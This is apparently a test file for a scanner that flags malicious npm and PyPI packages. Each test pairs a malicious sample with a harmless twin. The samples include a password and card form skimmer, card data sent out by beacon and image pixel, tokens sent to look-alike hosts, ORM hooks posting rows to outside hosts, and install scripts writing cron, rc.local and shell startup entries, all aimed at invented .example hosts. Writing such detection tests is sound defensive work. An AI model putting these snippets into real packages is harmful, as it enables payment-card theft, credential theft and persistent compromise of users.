/**
 * The `pkg22` round: what the `pkgrecall2` round left (docs/package-analysis.md "Branch pkg22"), each as a general
 * statement with its tuning item where npm SET10's even half has one, variants written here and the honest twin it
 * must not flag (neither BLOCKED nor CAUTION):
 *
 *  - a string the package holds that is a card / password form skimmer (`form_skimmer`), appended to emitted assets;
 *  - card fields put into an image beacon or `sendBeacon` to a fixed host (`card_data_beacon`);
 *  - a host name rewritten into a look-alike, or a token sent to a look-alike of a declared host (`token_lookalike_host`);
 *  - data-layer hooks: TypeORM / MikroORM subscribers, Prisma `$extends` query hooks, Knex `on('query')`, peewee and
 *    Tortoise signals, Django `@receiver([...])` with a list of signals (`user_data_send`);
 *  - start-up files written by Python with keyword arguments or `pathlib`, and by npm install scripts (cron, rc.local).
 *    (A `.pth` in site-packages is not among them: an honest held-out package writes one with an import line.)
 *
 * Archives are built in memory; nothing is run. Hosts are invented (`.example`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { npm10, npmBlocked, npmHonest, npmMain as main, pyBlocked, pyHonest } from '../support/package-asserts.js';
import { lookalikeOf } from '../../shared/packages/analysis/npm/lookalike-host.js';

// ---- a form skimmer held in a string ------------------------------------------------------------------

test('npm: a webpack plugin appending a card skimmer held in a string to emitted assets is BLOCKED', async () => {
  await npmBlocked(npm10('webpack-processassets-appends-skimmer').files, 'form_skimmer');
});

test('npm: variants — a Vite plugin injecting a password grabber with fetch, a Rollup banner with an XHR skimmer', async () => {
  await npmBlocked(
    main({
      'index.js': `const SNIPPET = \`<script>document.addEventListener('submit', (e) => { const p = e.target.querySelector('input[type=password]'); const u = e.target.querySelector('input[name=email]'); if (p) fetch('https://fonts-cdn.vite-tidy.example/f', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: u && u.value, p: p.value }) }); });</script>\`;
module.exports = function tidy() {
  return { name: 'vite-tidy', transformIndexHtml(html) { return html.replace('</body>', SNIPPET + '</body>'); } };
};
`,
    }),
    'form_skimmer',
  );
  await npmBlocked(
    main({
      'index.js': `module.exports = () => ({
  name: 'rollup-license-banner',
  banner: () => "/*! MIT */;(function(){var x=new XMLHttpRequest();window.addEventListener('change',function(){var f=document.getElementById('cc-number'),c=document.getElementById('cvv');if(f&&c&&f.value&&c.value){x.open('POST','https://203.0.113.9/l');x.send(f.value+'|'+c.value);}});})();",
});
`,
    }),
    'form_skimmer',
  );
});

test('npm: honest twins — a banner plugin adding a license comment, a string of form validation that sends nothing, a form helper posting to its action', async () => {
  await npmHonest(
    main({
      'index.js': `module.exports = (opts = {}) => ({
  name: 'banner',
  renderChunk(code) { return '/*! ' + (opts.text || 'built with banner, see https://banner-plugin.example/docs for the options') + ' */\\n' + code; },
});
`,
    }),
  );
  await npmHonest(
    main({
      'index.js': `const CHECK = "document.addEventListener('submit',function(e){var c=e.target.querySelector('input[name=cvv]');if(c&&!/^\\\\d{3,4}$/.test(c.value)){e.preventDefault();c.setCustomValidity('Invalid CVV');}});";
module.exports = () => ({ name: 'card-validate', transformIndexHtml: (html) => html.replace('</head>', '<script>' + CHECK + '</script></head>') });
`,
    }),
  );
});

// ---- card fields sent as an image beacon -----------------------------------------------------------------

test('npm: a React card input sending number and CVC as an image beacon is BLOCKED', async () => {
  await npmBlocked(npm10('react-card-input-onblur-exfil').files, 'card_data_beacon');
});

test('npm: variants — sendBeacon of an object literal with the card fields, a `(new Image).src` pixel', async () => {
  await npmBlocked(
    main({
      'index.js': `export function onPay(form) {
  const data = { cardNumber: form.number.value, cvv: form.cvv.value, exp: form.exp.value };
  navigator.sendBeacon('https://rum.pay-widgets.example/b', JSON.stringify(data));
  return data;
}
`,
    }),
    'card_data_beacon',
  );
  await npmBlocked(
    main({
      'index.js': `const c = {};
export const setNumber = (v) => { c.card_number = v; };
export const setCode = (v) => { c.security_code = v; (new Image()).src = '//px.card-mask.example/t.gif?q=' + btoa(JSON.stringify(c)); };
`,
    }),
    'card_data_beacon',
  );
});

test('npm: honest twins — a card form posting to its processor with fetch, a pixel with page views only', async () => {
  await npmHonest(
    main({
      'index.js': `export async function tokenize(publishableKey, card) {
  const body = { number: card.number, cvc: card.cvc, exp: card.exp };
  const r = await fetch('https://api.payments-processor.example/v1/tokens', { method: 'POST', headers: { authorization: 'Bearer ' + publishableKey }, body: JSON.stringify(body) });
  return (await r.json()).id;
}
`,
    }),
  );
  await npmHonest(
    main({
      'index.js': `const card = { number: '', cvc: '' };
export function view(page) { const img = new Image(); img.src = 'https://stats.pixel-lite.example/v.gif?p=' + encodeURIComponent(page); return card; }
`,
    }),
  );
});

// ---- a token sent to a look-alike host ------------------------------------------------------------------

test('npm: a GraphQL client whose refresh goes to a one-letter look-alike of the configured host is BLOCKED', async () => {
  await npmBlocked(npm10('graphql-client-refresh-to-lookalike-host').files, 'token_lookalike_host');
});

test('npm: variants — `l` to `1` with replaceAll on `u.host`, a token to a literal look-alike of the declared home page', async () => {
  await npmBlocked(
    main({
      'index.js': `exports.login = async (baseUrl, user, pass) => {
  const host = new URL(baseUrl).host.replaceAll('l', '1');
  const r = await fetch('https://' + host + '/session', { method: 'POST', body: JSON.stringify({ user, pass }) });
  return r.json();
};
`,
    }),
    'token_lookalike_host',
  );
  await npmBlocked(
    main(
      {
        'index.js': `exports.refresh = async () => {
  const r = await fetch('https://auth.acrne-cloud.example/token', { method: 'POST', body: JSON.stringify({ t: process.env.ACME_TOKEN }) });
  return r.json();
};
`,
      },
      { homepage: 'https://acme-cloud.example' },
    ),
    'token_lookalike_host',
  );
});

test('npm: honest twins — an auth subdomain derived by labels, a www prefix dropped, its own declared host', async () => {
  await npmHonest(
    main({
      'index.js': `exports.tokenUrl = (endpoint) => {
  const u = new URL(endpoint);
  return 'https://' + u.hostname.replace(/^api\\./, 'auth.').replace('www.', '') + '/oauth/token';
};
exports.refresh = async (endpoint, t) => (await fetch(exports.tokenUrl(endpoint), { method: 'POST', body: JSON.stringify({ refresh_token: t }) })).json();
`,
    }),
  );
  await npmHonest(
    main(
      {
        'index.js': `exports.refresh = async (t) => (await fetch('https://auth.acme-cloud.example/token', { method: 'POST', body: JSON.stringify({ refresh_token: t }) })).json();
`,
      },
      { homepage: 'https://acme-cloud.example' },
    ),
  );
});

test('look-alike hosts: one edit or a look-alike character of a declared host, not the host, its subdomains or another site', () => {
  assert.is(lookalikeOf('acrne.example', ['acme.example']), 'acme.example');
  assert.is(lookalikeOf('g00gle-api.example', ['google-api.example']), 'google-api.example');
  assert.is(lookalikeOf('auth.acmee.example', ['acme.example']), 'acme.example');
  assert.is(lookalikeOf('api.acme.example', ['acme.example']), null);
  assert.is(lookalikeOf('acme.example', ['acme.example']), null);
  assert.is(lookalikeOf('widgets.example', ['acme.example']), null);
});

// ---- data-layer hooks ---------------------------------------------------------------------------------------

test('npm: data-layer hooks — a TypeORM subscriber, a MikroORM subscriber, a Prisma $extends query hook, Knex on("query")', async () => {
  await npmBlocked(
    main({
      'index.js': `class AuditSubscriber {
  listenTo() { return Object; }
  afterInsert(event) { fetch('https://audit.orm-sync.example/i', { method: 'POST', body: JSON.stringify(event.entity) }).catch(() => {}); }
}
module.exports = { AuditSubscriber };
`,
    }),
    'user_data_send',
  );
  await npmBlocked(
    main({
      'index.js': `const axios = require('axios');
class Mirror {
  getSubscribedEntities() { return []; }
  async afterCreate(args) { await axios.post('https://m.mikro-mirror.example/c', args.entity); }
}
module.exports = Mirror;
`,
    }),
    'user_data_send',
  );
  await npmBlocked(
    main({
      'index.js': `const send = require('./send');
module.exports = (prisma) => prisma.$extends({
  query: { $allModels: { async $allOperations({ model, operation, args, query }) { send({ model, operation, args }); return query(args); } } },
});
`,
      'send.js': `module.exports = (x) => fetch('https://q.prisma-trace.example/o', { method: 'POST', body: JSON.stringify(x) }).catch(() => {});
`,
    }),
    'user_data_send',
  );
  await npmBlocked(
    main({
      'index.js': `const https = require('https');
module.exports = (knex) => {
  knex.on('query', (data) => {
    const r = https.request({ hostname: 'sql.knex-lens.example', method: 'POST', path: '/q' });
    r.on('error', () => {});
    r.end(JSON.stringify({ sql: data.sql, bindings: data.bindings }));
  });
  return knex;
};
`,
    }),
    'user_data_send',
  );
});

test('npm: honest twins — a TypeORM subscriber setting timestamps, Knex queries logged locally', async () => {
  await npmHonest(
    main({
      'index.js': `class Stamp {
  listenTo() { return Object; }
  beforeInsert(event) { event.entity.createdAt = new Date(); }
  beforeUpdate(event) { if (event.entity) event.entity.updatedAt = new Date(); }
}
module.exports = { Stamp };
`,
    }),
  );
  await npmHonest(
    main({
      'index.js': `module.exports = (knex, log = console) => { knex.on('query', (data) => log.debug(data.sql)); return knex; };
`,
    }),
  );
});

test('PyPI: data-layer hooks — a peewee post_save, a Tortoise post_save, a Django receiver with a list of signals', async () => {
  await pyBlocked(
    {
      'pkgx/__init__.py': `import requests
from playhouse.signals import post_save

@post_save()
def mirror(model_class, instance, created):
    requests.post("https://rows.peewee-sync.example/s", json=instance.__data__, timeout=3)
`,
    },
    'user_data_send',
  );
  await pyBlocked(
    {
      'pkgx/__init__.py': `import httpx
from tortoise.signals import post_save

@post_save(object)
async def mirror(sender, instance, created, using_db, update_fields):
    async with httpx.AsyncClient() as c:
        await c.post("https://rows.tortoise-sync.example/s", json=dict(instance))
`,
    },
    'user_data_send',
  );
  await pyBlocked(
    {
      'pkgx/__init__.py': `import requests
from django.db.models.signals import post_save, post_delete
from django.dispatch import receiver

@receiver([post_save, post_delete])
def mirror(sender, instance, **kwargs):
    requests.post("https://rows.dj-mirror.example/s", json={"m": sender.__name__, "v": str(instance.__dict__)}, timeout=3)
`,
    },
    'user_data_send',
  );
});

test('PyPI: honest twins — a peewee signal clearing a cache, a Django receiver list posting to the configured URL', async () => {
  await pyHonest({
    'pkgx/__init__.py': `from playhouse.signals import post_save
_cache = {}

@post_save()
def forget(model_class, instance, created):
    _cache.pop(instance.id, None)
`,
  });
  await pyHonest({
    'pkgx/__init__.py': `import requests
from django.conf import settings
from django.db.models.signals import post_save, post_delete
from django.dispatch import receiver

@receiver([post_save, post_delete])
def notify(sender, instance, **kwargs):
    url = getattr(settings, "PKGX_HOOK", None)
    if url:
        requests.post(url, json={"m": sender.__name__, "pk": instance.pk}, timeout=3)
`,
  });
});

// ---- start-up files written --------------------------------------------------------------------------------

test('PyPI: start-up writes — ~/.zshrc by open(file=, mode=), ~/.bashrc by Path.open("a"), rc.local by write_text, autostart by keywords', async () => {
  for (const code of [
    `import os\nwith open(file=os.path.expanduser("~/.zshrc"), mode="a") as f:\n    f.write("nohup ~/.cache/agent &\\n")\n`,
    `from pathlib import Path\nwith (Path.home() / ".bashrc").open("a") as f:\n    f.write("nohup ~/.cache/agent &\\n")\n`,
    `from pathlib import Path\nPath("/etc/rc.local").write_text("#!/bin/sh\\n/usr/local/bin/agent &\\n")\n`,
    `import os\nopen(mode="w", file=os.path.expanduser("~/.config/autostart/agent.desktop")).write("[Desktop Entry]\\nExec=/tmp/a\\n")\n`,
  ])
    await pyBlocked({ 'pkgx/__init__.py': code }, 'persistence_write');
});

test('PyPI: honest twins — a .pth written into a temporary folder, settings written under ~/.config', async () => {
  await pyHonest({ 'pkgx/__init__.py': `import os, tempfile\nd = tempfile.mkdtemp()\nwith open(file=os.path.join(d, "x.pth"), mode="w") as f:\n    f.write(d)\n` });
  await pyHonest({ 'pkgx/__init__.py': `from pathlib import Path\nwith (Path.home() / ".config" / "pkgx" / "settings.toml").open("w") as f:\n    f.write("a = 1\\n")\n` });
});

test('npm: install hooks writing a cron table, rc.local (a quoted `&` in the line written) or init.d are BLOCKED; a local log is not', async () => {
  const hook = (postinstall: string, files: Record<string, string> = {}) =>
    main({ 'index.js': 'module.exports = 1;\n', ...files }, { scripts: { postinstall } });
  await npmBlocked(hook("echo '/usr/local/bin/agent &' >> /etc/rc.local"), 'install_persistence');
  await npmBlocked(hook('cp ./agent.sh /etc/init.d/agent && update-rc.d agent defaults', { 'agent.sh': 'echo hi\n' }), 'install_persistence');
  await npmBlocked(hook('(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/local/bin/agent") | crontab -'), 'install_persistence');
  await npmBlocked(hook('node install.js', { 'install.js': "require('fs').appendFileSync('/etc/crontab', '*/5 * * * * root /tmp/a\\n');\n" }), 'install_persistence');
  await npmHonest(hook("echo 'installed & ready' >> ./install.log"));
});

test.run();
